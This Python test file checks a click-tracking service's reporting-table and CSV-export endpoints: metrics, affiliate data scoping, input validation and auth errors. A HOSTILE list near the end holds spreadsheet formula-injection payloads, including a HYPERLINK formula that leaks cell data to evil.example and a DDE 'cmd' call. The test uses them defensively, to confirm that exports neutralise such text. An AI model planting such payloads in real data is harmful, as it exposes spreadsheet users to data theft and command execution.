"""The entity table endpoints over HTTP: shape, realms, export, and 400s for bad input."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import pytest

from clicktrail.db import Database
from clicktrail.kit.ids import new_hex_id
from clicktrail.models import Click, Conversion
from clicktrail.report import rollup
from tests.fixtures.factories import make_affiliate, make_key, make_offer

TABLE = "/v1/networks/reporting/entity/table"
DAY = datetime.now(UTC).replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=2)


async def _traffic(db: Database) -> dict[str, Any]:
    offer = await make_offer(db, name="Shoes")
    mine = await make_affiliate(db, name="Mine")
    other = await make_affiliate(db, name="Other")
    clicks: list[dict[str, Any]] = []
    for affiliate, count, sub1 in ((mine, 4, "fb"), (other, 6, "")):
        for i in range(count):
            clicks.append(
                {
                    "transaction_id": new_hex_id(),
                    "created_at": DAY + timedelta(minutes=i),
                    "network_offer_id": offer.network_offer_id,
                    "network_affiliate_id": affiliate.network_affiliate_id,
                    "network_advertiser_id": offer.network_advertiser_id,
                    "is_unique": i % 2 == 0,
                    "country_code": "US",
                    "sub1": sub1,
                }
            )
    conversion = Conversion(
        conversion_id=new_hex_id(),
        network_offer_id=offer.network_offer_id,
        network_affiliate_id=mine.network_affiliate_id,
        network_advertiser_id=offer.network_advertiser_id,
        status="approved",
        created_at=DAY + timedelta(minutes=30),
        updated_at=DAY,
        payout=Decimal("5"),
        revenue=Decimal("8"),
        sub1="fb",
        country_code="US",
    )
    async with db.write() as session:
        session.add_all([Click(**c) for c in clicks])
        session.add(conversion)
        await session.flush()
        await rollup.add_clicks(session, clicks)
        await rollup.apply_conversion(session, conversion, +1)
    return {"offer": offer, "mine": mine, "other": other}


def _body(**extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "from": (DAY - timedelta(days=1)).date().isoformat(),
        "to": (DAY + timedelta(days=1)).date().isoformat(),
        "timezone_id": 67,
        "currency_id": "USD",
        "columns": [{"column": "offer"}],
        "query": {"filters": []},
    }
    body.update(extra)
    return body


async def test_network_table_shape_and_metrics(
    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
) -> None:
    seeded = await _traffic(db)
    response = await client.post(TABLE, json=_body(), headers=network_headers)
    assert response.status_code == 200, response.text
    data = response.json()
    assert data["incomplete_results"] is False
    [row] = data["table"]
    assert row["columns"] == [
        {"column_type": "offer", "id": str(seeded["offer"].network_offer_id), "label": "Shoes"}
    ]
    reporting = row["reporting"]
    assert reporting["total_click"] == 10
    assert reporting["unique_click"] == 5
    assert reporting["duplicate_click"] == 5
    assert reporting["cv"] == 1
    assert reporting["payout"] == 5
    assert reporting["revenue"] == 8
    assert reporting["profit"] == 3
    assert reporting["margin"] == 37.5
    assert reporting["cvr"] == 10.0
    assert reporting["rpc"] == 0.8
    assert data["summary"] == reporting


async def test_affiliate_sees_only_its_own_data_without_network_money(
    client: httpx.AsyncClient, db: Database
) -> None:
    seeded = await _traffic(db)
    key = await make_key(db, "affiliate", affiliate_id=seeded["mine"].network_affiliate_id)
    headers = {"X-Eflow-API-Key": key}
    body = _body(columns=[{"column": "offer"}, {"column": "sub1"}])
    response = await client.post(
        "/v1/affiliates/reporting/entity/table", json=body, headers=headers
    )
    assert response.status_code == 200, response.text
    data = response.json()
    [row] = data["table"]
    assert [c["id"] for c in row["columns"]] == [str(seeded["offer"].network_offer_id), "fb"]
    reporting = row["reporting"]
    assert reporting["total_click"] == 4
    assert reporting["cv"] == 1
    # The affiliate sees its earnings as payout; no revenue, profit or margin key at all.
    assert reporting["payout"] == 5
    assert reporting["epc"] == 1.25
    assert not [k for k in reporting if "revenue" in k or k in ("profit", "margin", "rpc")]
    assert not [k for k in data["summary"] if "revenue" in k or k in ("profit", "margin")]
    assert 8 not in reporting.values()
    # An affiliate key cannot pivot on affiliates.
    bad = await client.post(
        "/v1/affiliates/reporting/entity/table",
        json=_body(columns=[{"column": "affiliate"}]),
        headers=headers,
    )
    assert bad.status_code == 400
    assert "columns[0].column" in bad.json()["Error"]
    # ...and a network key is refused on the affiliate surface.
    network = await make_key(db, "network")
    wrong = await client.post(
        "/v1/affiliates/reporting/entity/table", json=body, headers={"X-Eflow-API-Key": network}
    )
    assert wrong.status_code == 403


async def test_sub1_rows_include_the_empty_value(
    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
) -> None:
    await _traffic(db)
    body = _body(columns=[{"column": "sub1"}], timezone_id=80)
    response = await client.post(TABLE, json=body, headers=network_headers)
    assert response.status_code == 200, response.text
    rows = {r["columns"][0]["id"]: r["reporting"] for r in response.json()["table"]}
    assert rows["fb"]["total_click"] == 4
    assert rows["fb"]["cv"] == 1
    assert rows[""]["total_click"] == 6
    assert rows[""]["cv"] == 0


async def test_export_streams_csv(
    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
) -> None:
    seeded = await _traffic(db)
    body = _body(columns=[{"column": "date"}, {"column": "affiliate"}])
    response = await client.post(TABLE + "/export", json=body, headers=network_headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {r["affiliate"]: int(r["total_click"]) for r in rows} == {"Mine": 4, "Other": 6}
    assert {r["date"] for r in rows} == {DAY.date().isoformat()}
    assert {r["affiliate_id"] for r in rows} == {
        str(seeded["mine"].network_affiliate_id),
        str(seeded["other"].network_affiliate_id),
    }


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"columns": [{"column": "planet"}]}, "columns[0].column"),
        ({"columns": []}, "columns"),
        (
            {"query": {"filters": [{"resource_type": "moon", "filter_id_value": "1"}]}},
            "query.filters[0].resource_type",
        ),
        (
            {"query": {"filters": [{"resource_type": "offer", "filter_id_value": "abc"}]}},
            "query.filters[0].filter_id_value",
        ),
        ({"from": "2024-02-10", "to": "2024-02-01"}, "from"),
        ({"from": "yesterday"}, "from"),
        ({"from": "2022-01-01", "to": "2023-12-31"}, "to"),
        ({"timezone_id": 4242}, "timezone_id"),
        ({"currency_id": "XYZ"}, "currency_id"),
        ({"currency_id": "EUR"}, "currency_id"),
        ({"columns": [{"column": "date"}, {"column": "hour"}]}, "columns"),
        ({"columns": [{"column": "sub1"}, {"column": "country"}]}, "columns"),
        ({"columns": [{"column": "sub1"}, {"column": "sub2"}]}, "columns"),
        ({"timezone_id": "x"}, "timezone_id"),
    ],
)
async def test_bad_input_is_a_400_naming_the_field(
    client: httpx.AsyncClient,
    network_headers: dict[str, str],
    change: dict[str, Any],
    field: str,
) -> None:
    response = await client.post(TABLE, json=_body(**change), headers=network_headers)
    assert response.status_code == 400, response.text
    body = response.json()
    assert field in body["Error"]
    assert body["error"] == body["Error"]


async def test_missing_key_is_401(client: httpx.AsyncClient) -> None:
    response = await client.post(TABLE, json=_body())
    assert response.status_code == 401


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


async def test_export_neutralises_visitor_text_for_spreadsheets(
    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
) -> None:
    offer = await make_offer(db, name="=Offer")
    affiliate = await make_affiliate(db, name="@Partner")
    clicks = [
        {
            "transaction_id": new_hex_id(),
            "created_at": DAY + timedelta(minutes=i),
            "network_offer_id": offer.network_offer_id,
            "network_affiliate_id": affiliate.network_affiliate_id,
            "network_advertiser_id": offer.network_advertiser_id,
            "is_unique": True,
            "sub1": sub1,
        }
        for i, sub1 in enumerate([*HOSTILE, "plain"])
    ]
    async with db.write() as session:
        session.add_all([Click(**c) for c in clicks])
        await session.flush()
        await rollup.add_clicks(session, clicks)
    body = _body(columns=[{"column": "offer"}, {"column": "sub1"}])
    response = await client.post(TABLE + "/export", json=body, headers=network_headers)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(r["sub1"] for r in rows) == sorted(["'" + v for v in HOSTILE] + ["plain"])
    assert {r["sub1_id"] for r in rows} == {r["sub1"] for r in rows}
    assert {r["offer"] for r in rows} == {"'=Offer"}
    assert all(int(r["total_click"]) == 1 for r in rows)
    # Text cells are quoted; numbers are not, so they stay numbers in a spreadsheet.
    plain = next(line for line in response.text.splitlines() if '"plain"' in line)
    assert plain.startswith(f'"{offer.network_offer_id}","\'=Offer","plain","plain",0,1,')


async def test_columns_shape_is_as_documented(
    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
) -> None:
    """docs/api.md, "The `columns` shape": one cell per requested column, in request order,
    string ids and labels; a bare string instead of an object is a 400."""
    seeded = await _traffic(db)
    columns = [{"column": "offer"}, {"column": "sub1"}, {"column": "date"}]
    response = await client.post(TABLE, json=_body(columns=columns), headers=network_headers)
    assert response.status_code == 200, response.text
    midnight = DAY.replace(hour=0)
    cells = {r["columns"][1]["id"]: r["columns"] for r in response.json()["table"]}
    assert cells["fb"] == [
        {"column_type": "offer", "id": str(seeded["offer"].network_offer_id), "label": "Shoes"},
        {"column_type": "sub1", "id": "fb", "label": "fb"},
        {
            "column_type": "date",
            "id": str(int(midnight.timestamp())),
            "label": midnight.date().isoformat(),
        },
    ]
    assert cells[""][1] == {"column_type": "sub1", "id": "", "label": ""}
    hours = await client.post(
        TABLE, json=_body(columns=[{"column": "hour"}]), headers=network_headers
    )
    assert hours.json()["table"][0]["columns"] == [
        {"column_type": "hour", "id": "12", "label": "12:00"}
    ]
    bare = await client.post(TABLE, json=_body(columns=["offer"]), headers=network_headers)
    assert bare.status_code == 400
    assert bare.json()["Error"].startswith("columns.0 ")
